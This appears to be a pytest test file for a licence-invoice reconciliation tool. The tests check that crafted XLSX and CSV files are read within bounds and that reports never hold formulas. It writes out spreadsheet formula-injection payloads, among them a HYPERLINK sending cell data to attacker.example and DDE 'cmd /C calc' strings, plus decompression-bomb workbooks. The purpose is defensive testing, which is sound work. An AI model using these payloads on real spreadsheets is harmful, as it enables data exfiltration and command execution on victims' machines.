"""
Licence files an attacker crafts (a vendor's invoice, a contract sheet handed to an admin): read
within bounds, and the reconciliation report they feed never carries a formula.
"""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from playbooks.licences.invoice import INVOICE_COLUMNS, parse_invoice
from playbooks.licences.reconcile import RECONCILE_HEADER, reconcile, reconcile_rows
from worker.reports.licence_files import (
    MAX_COLUMNS,
    MAX_ROWS,
    MAX_XLSX_BYTES,
    LicenceFileError,
    read_table,
    write_table,
)

ROW = ["Zoom", "INV-2", "1", "Business", "40", "13.33", "533.20", "2026-11-01", "2026-11-30", "USD"]
SHEET = "xl/worksheets/sheet1.xml"


def _workbook(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """A two-row invoice workbook written by openpyxl, its parts then changed by ``change``."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(INVOICE_COLUMNS))
    sheet.append(ROW)
    raw = io.BytesIO()
    book.save(raw)
    with zipfile.ZipFile(raw) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _dimension(ref: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        xml = parts[SHEET].decode()
        assert "<dimension " in xml
        parts[SHEET] = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', xml).encode()

    return change


def _extra_row(row: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[SHEET] = parts[SHEET].replace(b"</sheetData>", row.encode() + b"</sheetData>")

    return change


FAR_ROW = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'


def _grid_and_far_row(parts: dict[str, bytes]) -> None:
    """5 kB: before, a million made-up rows of 16,384 cells (3.7 GB, then MemoryError)."""
    _dimension("A1:XFD1048576")(parts)
    _extra_row(FAR_ROW)(parts)


def _properties_bomb(parts: dict[str, bytes]) -> None:
    """A title of MAX_XLSX_BYTES letters: the document properties are parsed whole at open."""
    name = "docProps/core.xml"
    assert b"</dc:creator>" in parts[name]
    title = b"<dc:title>" + b"a" * (MAX_XLSX_BYTES + 1) + b"</dc:title>"
    parts[name] = parts[name].replace(b"</dc:creator>", b"</dc:creator>" + title)


@pytest.mark.parametrize(
    "ref",
    ["A1:XFD2", "A1:XFD1048576"],
    ids=["dimension-claims-every-column", "dimension-claims-the-whole-grid"],
)
def test_a_workbook_is_read_as_its_rows_are_not_as_its_dimension_claims(
    tmp_path: Path, ref: str
) -> None:
    """A 5 kB file claiming A1:XFD1048576 had every row padded to 16,384 cells."""
    path = _workbook(tmp_path / "inv.xlsx", _dimension(ref))
    started = time.perf_counter()
    header, rows = read_table(path)
    assert (header, rows) == (list(INVOICE_COLUMNS), [ROW])
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (_extra_row('<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'),
         f"inv.xlsx row 3: more than {MAX_COLUMNS} columns"),
        (_extra_row(FAR_ROW), f"inv.xlsx: more than {MAX_ROWS:,} rows"),
        (_grid_and_far_row, f"inv.xlsx: more than {MAX_ROWS:,} rows"),
        (_properties_bomb, "inv.xlsx: the workbook unpacks to "),
    ],
    ids=["a-cell-in-the-last-column", "a-row-at-the-last-row", "grid-dimension-and-a-far-row",
         "document-properties-bomb"],
)  # fmt: skip
def test_a_workbook_past_the_bounds_is_refused_naming_the_file(
    tmp_path: Path, change: Callable[[dict[str, bytes]], None], problem: str
) -> None:
    path = _workbook(tmp_path / "inv.xlsx", change)
    assert path.stat().st_size < 2_000_000  # small to send, huge to unpack
    with pytest.raises(LicenceFileError) as caught:
        read_table(path)
    assert problem in str(caught.value)


def test_a_csv_file_past_the_row_bound_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "inv.csv"
    path.write_text(",".join(INVOICE_COLUMNS) + "\n" + "x\n" * MAX_ROWS, encoding="utf-8")
    with pytest.raises(LicenceFileError, match=f"inv.csv: more than {MAX_ROWS:,} rows"):
        read_table(path)


HOSTILE = {
    "vendor": '=HYPERLINK("https://attacker.example/?"&A1,"Zoom")',
    "invoice_number": "+cmd|' /C calc'!A0",
    "line": "-1+1",
    "sku": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("suffix", ["csv", "xlsx"], ids=["csv-report", "xlsx-report"])
def test_invoice_text_that_a_spreadsheet_would_run_stays_text_in_the_report(
    tmp_path: Path, suffix: str
) -> None:
    """Finance opens the reconciliation in Excel: no cell the invoice wrote may run."""
    invoice = tmp_path / "inv.csv"
    cells = [HOSTILE.get(c, v) for c, v in zip(INVOICE_COLUMNS, ROW, strict=True)]
    bad = [*cells[:4], "4O", *cells[5:]]
    with invoice.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([INVOICE_COLUMNS, cells, bad])
    lines, rejected = parse_invoice(*read_table(invoice), source="=cmd|' /C calc'!A0")
    assert (len(lines), len(rejected)) == (1, 1)
    out = tmp_path / f"report.{suffix}"
    write_table(RECONCILE_HEADER, reconcile_rows(reconcile(lines, []), rejected), out)

    if suffix == "csv":
        with out.open(encoding="utf-8", newline="") as handle:
            written = [c for row in csv.reader(handle) for c in row]
    else:
        sheet = load_workbook(out).worksheets[0]
        kinds = {c.data_type for row in sheet.iter_rows() for c in row}
        assert kinds <= {"s", "n", "inlineStr"}  # no "f": no cell is a formula
        written = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    for text in [*HOSTILE.values(), "=cmd|' /C calc'!A0 row 3, column 'billed_quantity'"]:
        assert any(w.startswith("'" + text) for w in written), text
    runnable = [w for w in written if w.startswith(("=", "+", "@")) or re.match(r"-\D", w)]
    assert runnable == []
